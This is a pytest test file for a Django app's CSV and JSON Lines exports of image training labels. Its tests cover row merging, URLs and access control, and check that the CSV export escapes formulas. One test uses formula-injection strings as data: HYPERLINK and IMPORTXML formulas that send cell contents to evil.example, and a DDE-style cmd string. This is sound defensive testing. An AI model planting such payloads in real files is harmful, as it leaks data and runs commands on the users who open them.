"""Label exports a training pipeline can use: absolute URLs, the candidate's id, sha1, size and
search rank, the model, the label's source and the picture's origin, one row per picture and
POI (a current image and the candidate it is are one row), formulas escaped in CSV."""

from __future__ import annotations

import csv
import hashlib
import io
import json

import pytest
from django.contrib.auth import get_user_model
from django.urls import reverse

from cities.models import PointOfInterest
from image_ranking.models import Candidate, ImageTrainingData, PoiRanking
from image_ranking.review import labels
from tests.dashboard.factories import make_pois

CSV = reverse("image_ranking:export_csv")
JSONL = reverse("image_ranking:export_jsonl")


def jsonl_rows(client) -> list[dict]:
    response = client.get(JSONL)
    assert response.status_code == 200
    return [json.loads(line) for line in b"".join(response.streaming_content).splitlines()]


def csv_rows(client) -> list[dict]:
    response = client.get(CSV)
    assert response.status_code == 200 and response["Content-Type"].startswith("text/csv")
    return list(csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode())))


@pytest.fixture
def four(db):
    """POI 0: pipeline winner stored; 1: curator-chosen; 2: curated before ranking; 3: none."""
    _, _, pois = make_pois(4, 3, image_every=1, flag_every=0)
    for poi in pois[3:]:
        poi.image_file = ""
        poi.save(update_fields=["image_file"])
    PoiRanking.objects.filter(poi=pois[1]).update(image_origin="curator")
    PoiRanking.objects.filter(poi=pois[2]).update(image_origin="")
    for c in Candidate.objects.all():
        Candidate.objects.filter(pk=c.pk).update(
            sha1=hashlib.sha1(c.image_url.encode()).hexdigest()
        )
    return pois


def winner(poi) -> Candidate:
    return Candidate.objects.get(poi=poi, is_winner=True)


def label(poi, image_url: str, value: str, source: str = "curator") -> ImageTrainingData:
    return ImageTrainingData.objects.create(
        poi=poi, image_url=image_url, label=value, source=source, model_name="nima"
    )


def test_a_candidate_label_carries_what_training_needs(staff_client, four):
    poi = four[3]
    cand = Candidate.objects.filter(poi=poi).order_by("search_rank").last()
    label(poi, cand.image_url, "bad", source="bootstrap")
    (row,) = jsonl_rows(staff_client)
    assert row["image_url"] == cand.image_url and row["thumbnail_url"] == cand.thumb_url
    assert row["candidate_id"] == cand.pk and row["sha1"] == cand.sha1
    assert (row["width"], row["height"], row["search_rank"]) == (4000, 3000, cand.search_rank)
    assert row["model_name"] == "nima" and row["source"] == "bootstrap"
    assert row["image_origin"] == "pipeline" and row["current_image_url"] == ""


def test_a_current_image_and_its_winner_are_one_row_with_absolute_urls(staff_client, four):
    poi = four[0]  # stored by the pipeline from its winner
    own = winner(poi)
    label(poi, own.image_url, "good")
    label(poi, poi.image_file.url, "good")
    other = Candidate.objects.filter(poi=poi, is_winner=False).first()
    label(poi, other.image_url, "bad")
    rows = jsonl_rows(staff_client)
    assert len(rows) == 2
    current = next(r for r in rows if r["candidate_id"] == own.pk)
    assert current["image_url"] == own.image_url and current["sha1"] == own.sha1
    assert current["current_image_url"] == f"http://testserver{poi.image_file.url}"
    assert current["image_origin"] == "pipeline" and current["label"] == "good"
    assert {r["candidate_id"] for r in rows} == {own.pk, other.pk}


def test_a_label_of_only_the_current_image_gets_its_candidate(staff_client, four):
    poi = four[1]  # chosen by a curator
    label(poi, poi.image_file.url, "good")
    (row,) = jsonl_rows(staff_client)
    assert row["candidate_id"] == winner(poi).pk and row["image_origin"] == "curator"
    assert row["image_url"] == winner(poi).image_url
    assert row["current_image_url"].startswith("http://testserver/media/")


def test_when_both_are_labelled_the_later_label_counts(staff_client, four):
    poi = four[0]
    label(poi, winner(poi).image_url, "good")
    later = label(poi, poi.image_file.url, "bad")
    (row,) = jsonl_rows(staff_client)
    assert row["label"] == "bad" and row["updated_at"] == later.updated_at.isoformat()


def test_a_curated_file_is_its_same_sha1_candidate(staff_client, four, media_root):
    poi = four[2]  # there before image ranking
    data = b"the curated file, byte for byte a Commons original"
    path = media_root / poi.image_file.name
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_bytes(data)
    same = Candidate.objects.filter(poi=poi, is_winner=False).first()
    Candidate.objects.filter(pk=same.pk).update(sha1=hashlib.sha1(data).hexdigest())
    label(poi, poi.image_file.url, "good", source="bootstrap")
    label(poi, same.image_url, "good")
    (row,) = jsonl_rows(staff_client)
    assert row["candidate_id"] == same.pk and row["sha1"] == hashlib.sha1(data).hexdigest()
    assert row["image_origin"] == "existing"


def test_a_curated_file_without_a_candidate_is_its_own_row(staff_client, four, media_root):
    poi = four[2]
    label(poi, poi.image_file.url, "good")  # no file on disk: no sha1 to match
    (row,) = jsonl_rows(staff_client)
    assert row["candidate_id"] is None and row["sha1"] == ""
    assert row["image_url"] == f"http://testserver{poi.image_file.url}"
    assert row["current_image_url"] == row["image_url"] and row["image_origin"] == "existing"


def test_csv_has_the_new_columns_and_still_escapes_formulas(staff_client, four):
    poi = four[3]
    cand = Candidate.objects.filter(poi=poi).first()
    label(poi, cand.image_url, "good")
    ImageTrainingData.objects.create(poi=poi, image_url="=HYPERLINK(1)", label="bad")
    ImageTrainingData.objects.create(poi=four[0], image_url="@SUM(1)", label="bad")
    rows = csv_rows(staff_client)
    assert list(rows[0]) == labels.EXPORT_FIELDS
    for field in ("candidate_id", "sha1", "width", "height", "search_rank", "model_name"):
        assert field in rows[0]
    by_url = {r["image_url"]: r for r in rows}
    assert "'=HYPERLINK(1)" in by_url and "'@SUM(1)" in by_url
    assert by_url[cand.image_url]["candidate_id"] == str(cand.pk)
    assert by_url["'=HYPERLINK(1)"]["candidate_id"] == ""


HOSTILE_NAMES = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
]


def test_text_a_spreadsheet_would_run_is_escaped_in_csv_and_exact_in_jsonl(staff_client, db):
    """POI names, a city name, a Commons file name and a curator's name from elsewhere: in the
    CSV each cell starting with =, +, -, @, TAB or CR gets a leading quote; the JSON Lines
    export keeps every value exactly (a training pipeline reads them)."""
    _, _, pois = make_pois(len(HOSTILE_NAMES), 2, city_name="=Evil City", image_every=0)
    curator = get_user_model().objects.create(username="@curator")
    hostile_url = '=IMPORTXML(CONCAT("http://evil.example/?",A2),"//a")'
    for poi, name in zip(pois, HOSTILE_NAMES, strict=True):
        PointOfInterest.objects.filter(pk=poi.pk).update(name=name)
        candidate = Candidate.objects.filter(poi=poi).first()
        labels.label_candidate(candidate, "good", user=curator)
    ImageTrainingData.objects.create(poi=pois[0], image_url=hostile_url, label="bad")

    by_name = {}
    for row in csv_rows(staff_client):
        by_name.setdefault(row["poi_name"], []).append(row)
    assert sorted(by_name) == sorted("'" + name for name in HOSTILE_NAMES)
    for rows in by_name.values():
        assert all(row["city"] == "'=Evil City" for row in rows)
    first = by_name["'" + HOSTILE_NAMES[0]]
    assert {row["image_url"] for row in first} >= {"'" + hostile_url}
    assert {row["labelled_by"] for row in first} == {"'@curator", ""}

    exact = jsonl_rows(staff_client)
    assert sorted({row["poi_name"] for row in exact}) == sorted(HOSTILE_NAMES)
    assert {row["city"] for row in exact} == {"=Evil City"}
    assert hostile_url in {row["image_url"] for row in exact}
    assert "@curator" in {row["labelled_by"] for row in exact}


def test_exports_stream_in_batches_with_a_fixed_number_of_queries(
    staff_client, db, django_assert_max_num_queries, monkeypatch
):
    _, _, pois = make_pois(12, 2, image_every=0, flag_every=0)
    for poi in pois:
        label(poi, Candidate.objects.filter(poi=poi).first().image_url, "good")
    monkeypatch.setattr(labels, "EXPORT_BATCH", 5)
    with django_assert_max_num_queries(12):  # session, user, labels, 3 batches x 2
        rows = jsonl_rows(staff_client)
    assert len(rows) == 12 and len({r["poi_id"] for r in rows}) == 12


def test_exports_are_staff_only_and_change_nothing(client, plain_client, staff_client, four):
    label(four[0], winner(four[0]).image_url, "good")
    for visitor in (client, plain_client):
        for url in (CSV, JSONL):
            response = visitor.get(url)
            assert response.status_code == 302 and "/login/" in response.url
    before = list(ImageTrainingData.objects.values())
    csv_rows(staff_client), jsonl_rows(staff_client)
    assert list(ImageTrainingData.objects.values()) == before
    assert staff_client.post(CSV).status_code == 405
